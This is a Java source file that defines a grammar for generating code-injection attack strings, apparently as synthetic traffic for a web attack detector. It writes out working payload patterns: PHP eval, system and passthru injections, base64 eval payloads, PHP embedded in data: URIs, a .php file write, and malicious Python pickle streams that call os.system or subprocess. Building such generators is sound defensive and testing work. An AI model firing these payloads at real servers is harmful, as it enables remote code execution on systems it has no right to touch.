package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Code for an interpreter that evaluates a value, or for one that unpickles it. */
final class CodeFragments {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            outcome ::=
              3×«exit¦die¦print¦echo¦print_r¦var_dump¦printf»(«md5¦sha1¦strrev¦base64_encode»(«'«letters 1..6»'¦«10..99999»¦chr(«33..126»)»))
              2×«system¦passthru¦shell_exec¦exec¦popen»(«q:='¦"»«unix_command»«=q»)
              print(«100..9999»«*¦+¦-»«100..9999»)
              phpinfo()
              «eval¦assert»(base64_decode('«@base64 «phpinfo();¦system("id");¦echo md5(«1..999»);»»'))
              file_put_contents('«name».php','«alnum 4..12»')
            eval_end ::=
              ;
              ;#
              ;//
              .'
              ;$«letters 1..2»='
              ;/*
            evaluated ::=
              3×«?«word»»«';¦";¦;¦');¦)};¦]);¦};»«outcome»«eval_end»
              2×«'.¦".¦'-¦{${¦${@¦{${@»«outcome»«}}¦}¦.'¦."¦»«?\\»
              «1..99»;«outcome»«eval_end»
              «word»'«|¦||¦&&»«outcome»«|¦||¦&&»'
            document ::=
              3×data:«?//»«?text/plain»«?;»;base64,«@base64 <?php «outcome»;?>»
              data:,<?php «outcome»;?>
              data:«text/html¦image/png¦application/x-httpd-php»;base64,«@base64 <?php «outcome»;»
            module ::=
              «os¦posix¦nt»
            pickle ::=
              3×c«module»«nl»«system¦popen»«nl»(S«q:='¦"»«unix_command»«=q»«nl»tR.
              2×c«__builtin__¦builtins»«nl»«eval¦exec»«nl»(S'__import__("os").system("«id¦ls¦whoami¦«name»»")'«nl»tR.
              csubprocess«nl»«check_output¦Popen¦call»«nl»((lp0«nl»S'«name»'«nl»ap1«nl»S'«alnum 1..9»'«nl»aRp2«nl».
              (S'«unix_command»'«nl»i«module»«nl»system«nl».
              «@base64 c«module»«nl»system«nl»(S'«unix_command»'«nl»tR.»
              (dp0«nl»S'«word»'«nl»p1«nl»c«module»«nl»system«nl»(S'«unix_command»'«nl»tRs.
            """);

    private static final Placement[] PLACES = {
        Placement.QUERY, Placement.QUERY, Placement.FORM, Placement.JSON, Placement.COOKIE
    };

    static final List<AttackFamily> FAMILIES = List.of(
            CodeExecution.family(GRAMMAR, "php_evaluated", "evaluated").in(PLACES),
            CodeExecution.family(GRAMMAR, "php_data_address", "document").in(PLACES),
            CodeExecution.family(GRAMMAR, "python_pickle", "pickle").in(PLACES));

    private CodeFragments() {}
}
